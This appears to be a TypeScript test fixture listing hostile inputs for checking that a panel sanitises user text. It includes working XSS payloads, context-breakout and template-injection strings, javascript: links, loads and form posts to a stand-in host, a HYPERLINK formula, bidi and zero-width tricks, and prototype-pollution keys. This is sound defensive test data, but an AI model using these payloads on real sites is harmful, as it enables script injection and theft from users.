/** Address that a text of `hostileTexts` calls when a part of it runs or loads; nothing may ever be asked of it. */
export const strangerHost = 'stranger.invalid';
/** Mark that a script of `hostileTexts` leaves on the window when it runs. */
export const ranMark = 'heliographRan';

const run = `window.${ranMark}=1`;
const away = `https://${strangerHost}`;
const [rlo, lro, rle, lri, fsi, alm, zwsp, zwj, wj, bom] = [
  '\u202e',
  '\u202d',
  '\u202b',
  '\u2066',
  '\u2068',
  '\u061c',
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
];
const marks = (from: number, count: number) => Array.from({ length: count }, (_, i) => String.fromCodePoint(from + (i % 80))).join('');

/** Texts that people may write to run something in the panel, to turn or hide what stands around them, or to break its layout. */
export const hostileTexts: readonly string[] = [
  // Elements that run a script by themselves.
  `<script>${run}</script>`,
  `<ScRiPt src="${away}/a.js"></sCrIpT>`,
  `"><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${ranMark}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${ranMark}=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}"><summary>Open</summary></details>`,
  `<marquee onstart="${run}">Hello</marquee>`,
  `<style onload="${run}"></style>`,
  `<link rel=stylesheet href="${away}/a.css" onload="${run}">`,
  `<style>@import "${away}/b.css"; * { display: none !important }</style>`,
  `<meta http-equiv="refresh" content="0;url=${away}/gone">`,
  `<base href="${away}/">`,
  `<form action="${away}/take"><button autofocus>Continue</button></form>`,
  `<a href="javascript:${run}" style="position:fixed;inset:0">Click</a>`,
  `<div style="background:url(${away}/c.png)">Hello</div>`,
  // Ways out of another context.
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `</textarea></title><img src=x onerror="${run}">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<template><img src=x onerror="${run}"></template>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `' onmouseover='${run}' x='`,
  `" autofocus onfocus="${run}" x="`,
  `\`-${run}-\``,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  `';${run};//`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/oNloAd=${run}//>\\x3e`,
  // Links, none of which may be one to click.
  `javascript:${run}`,
  ` java\tscript:${run}`,
  `[Your bill](javascript:${run})`,
  `data:text/html,<script>${run}</script>`,
  `https://${strangerHost}/login`,
  // Names of members that every object has.
  '__proto__',
  'constructor',
  // Translations have %{names} in them.
  '%{name} %{smart_count} |||| %{figure}',
  // Characters that turn, hide or pile up.
  `${rlo}gpj.exe ${rlo}${lro}${rle}turned`,
  `${lri}${fsi}${rle}never closed ${alm}+44 7700 900731`,
  `${zwsp}${wj}${bom}${zwj}${zwsp}`,
  `S${zwsp}T${zwsp}O${zwsp}P${zwj.repeat(200)}`,
  `Z${marks(0x300, 300)}a${marks(0x300, 300)}lgo`,
  `${'👩‍👩‍👧‍👦🏳️‍🌈'.repeat(40)}`,
  '\u0007\u001b[31mred\u001b[0m\u0008\u007f\u0085',
  'مرحبا ١٢٣ +44 7700 900731 שלום (abc) ]]',
  // Sizes.
  'W'.repeat(3_000),
  `${'long '.repeat(8_000)}end`,
  `line${'\n'.repeat(300)}end`,
  `=HYPERLINK("${away}/d","Open")`,
];

/** A contact card that carries such a text in every field. */
export const vcardOf = (text: string): string =>
  `BEGIN:VCARD\nVERSION:3.0\nN:;${text};;;\nFN:${text}\nORG:${text}\nURL:javascript:${run}\nTEL;waid=447700900555:+44 7700 900555\nEND:VCARD`;
